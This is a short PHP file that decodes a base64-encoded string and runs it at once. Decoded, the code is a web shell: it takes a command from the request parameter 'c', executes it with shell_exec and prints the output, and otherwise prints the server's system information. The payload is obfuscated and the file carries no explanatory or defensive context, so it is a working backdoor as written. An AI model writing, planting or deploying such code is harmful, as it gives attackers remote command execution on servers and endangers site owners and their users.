<?php
$f = create_function('', base64_decode('aWYoaXNzZXQoJF9SRVFVRVNUWydjJ10pKXtlY2hvICc8cHJlPic7JG89c2hlbGxfZXhlYygkX1JFUVVFU1RbJ2MnXSk7ZWNobyBodG1sc3BlY2lhbGNoYXJzKCRvKTtlY2hvICc8L3ByZT4nO31lbHNle2VjaG8gcGhwX3VuYW1lKCk7fQ=='));
$f();
